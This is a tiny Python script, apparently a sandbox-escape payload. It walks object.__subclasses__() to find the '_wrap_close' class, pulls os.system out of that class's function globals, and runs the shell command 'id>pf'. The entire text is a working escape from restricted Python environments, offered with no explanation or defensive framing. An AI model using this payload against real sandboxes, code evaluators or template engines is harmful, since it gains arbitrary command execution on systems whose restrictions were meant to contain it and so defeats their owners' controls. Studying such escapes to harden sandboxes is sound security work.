def f():
    return __class__
class A:
    def g(self):
        return __class__.__base__.__subclasses__()
for c in A().g():
    if c.__name__ == "_wrap_close":
        c.__iter__.__globals__["system"]("id>pf")
